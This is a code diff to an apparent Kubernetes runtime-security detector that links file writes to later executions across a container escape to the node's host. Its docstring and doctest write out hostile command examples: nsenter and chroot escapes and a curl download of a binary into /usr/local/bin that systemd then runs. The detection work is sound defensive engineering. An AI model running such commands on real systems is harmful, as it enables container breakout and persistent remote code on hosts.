@@ -31,7 +31,7 @@ def _col(f: pl.DataFrame, c: str) -> pl.Expr:
     return pl.col(c).cast(pl.String) if c in f.columns else pl.lit(None, pl.String)
 
 
-def named_writes(procs: pl.DataFrame) -> pl.DataFrame:
+def named_writes(procs: pl.DataFrame, escaped: pl.Series | list[str] | None = None) -> pl.DataFrame:
     """Writes by name: a process whose argument is an absolute path (alone, after ``--opt=`` or
     glued to a short option such as ``-o/tmp/x``) that a later process of the same pod (or of the
     same node's host) ran as its binary, when no process had run that path before the namer
@@ -39,7 +39,22 @@ def named_writes(procs: pl.DataFrame) -> pl.DataFrame:
     runner's launcher (``nohup /tmp/x``, ``su-exec u /bin/sh -c …`` start it, they do not write it:
     an ancestor, the same pid, or arguments that go on with the runner's).  Of namers one above the
     other (``sh -c "curl -o /tmp/x …"`` and its ``curl``), the lower did it.  One access row per
-    (namer, path), at the namer's start, ``access`` ``write``."""
+    (namer, path), at the namer's start, ``access`` ``write``.
+
+    ``escaped``: processes of pods that escaped to their node's host (an escape-to-host detection:
+    ``nsenter -t 1 -m …``, ``chroot /host …``); what they and the processes below them name is
+    the host's path, so a later run of it by a host process (no pod) of the node counts too —
+    ``nsenter … bash -c "curl -so /usr/local/bin/x …"``, then systemd runs ``/usr/local/bin/x``.
+
+    >>> p = pl.DataFrame({"exec_id": ["ns", "dl", "svc"], "parent_exec_id": ["c", "ns", "systemd"],
+    ...                   "node": ["n"] * 3, "namespace": ["a", "a", None], "pod": ["x-1", "x-1", None],
+    ...                   "binary": ["/usr/bin/nsenter", "/usr/bin/curl", "/usr/local/bin/h"],
+    ...                   "args": ["-t 1 -m -- sh", "-so /usr/local/bin/h http://y/h", ""], "start_ns": [1, 2, 9]})
+    >>> named_writes(p, ["ns"]).select("exec_id", "pod", "path").rows()
+    [('dl', 'x-1', '/usr/local/bin/h')]
+    >>> named_writes(p).height
+    0
+    """
     need = {"exec_id", "binary", "args", "start_ns"}
     if procs.height == 0 or not need <= set(procs.columns):
         return pl.DataFrame(schema=_ACCESS)
@@ -58,9 +73,16 @@ def named_writes(procs: pl.DataFrame) -> pl.DataFrame:
     tok = tok.filter(pl.col("path").str.starts_with("/") & (pl.col("path") != pl.col("binary")))
     cand = tok.join(runs, left_on=["node", "namespace", "pod", "path"], right_on=["node", "namespace", "pod", "binary"],
                     nulls_equal=True).filter(pl.col("start_ns") < pl.col("_first"))
+    parent = dict(zip(p["exec_id"].to_list(), p["parent"].to_list(), strict=True))
+    out_of_pod = _below(set(escaped if escaped is not None else []), parent)
+    if out_of_pod:
+        # a namer below an escape names the host's path: the host's runs of it (no pod) count too
+        host = runs.filter(pl.col("pod").is_null() & pl.col("namespace").is_null()).drop("namespace", "pod")
+        up = tok.filter(pl.col("pod").is_not_null() & pl.col("exec_id").is_in(list(out_of_pod)))
+        cand = pl.concat([cand, up.join(host, left_on=["node", "path"], right_on=["node", "binary"]).filter(
+            pl.col("start_ns") < pl.col("_first")).select(cand.columns)])
     if cand.height == 0:
         return pl.DataFrame(schema=_ACCESS)
-    parent = dict(zip(p["exec_id"].to_list(), p["parent"].to_list(), strict=True))
 
     def ancestor(a: str, b: str) -> bool:
         seen, cur = set(), parent.get(b)
@@ -93,10 +115,26 @@ def named_writes(procs: pl.DataFrame) -> pl.DataFrame:
                       pl.lit("write").alias("access"), pl.lit(True).alias("mode_known")).cast(_ACCESS)  # type: ignore[arg-type]
 
 
-def named_file_edges(procs: pl.DataFrame, hooked: pl.DataFrame | None = None) -> pl.DataFrame:
+def _below(top: set[str], parent: dict[str, str | None]) -> set[str]:
+    """``top`` and every process whose ancestors include one of them."""
+    if not top:
+        return set()
+    out = set(top)
+    for x in parent:
+        seen, cur = [], x
+        while cur is not None and cur not in out and cur not in seen:
+            seen.append(cur)
+            cur = parent.get(cur)
+        if cur in out:
+            out.update(seen)
+    return out
+
+
+def named_file_edges(procs: pl.DataFrame, hooked: pl.DataFrame | None = None,
+                     escaped: pl.Series | list[str] | None = None) -> pl.DataFrame:
     """The ``write`` → ``exec_file`` edges (:func:`kernelsec_nb.findings.graph.file_edges`) of the
     :func:`named_writes` that no hooked write (``hooked``: file accesses) already shows."""
-    named = named_writes(procs)
+    named = named_writes(procs, escaped)
     if hooked is not None and named.height and hooked.height:
         named = named.join(hooked.filter(pl.col("access") == "write").select("exec_id", "path"),
                            on=["exec_id", "path"], how="anti")
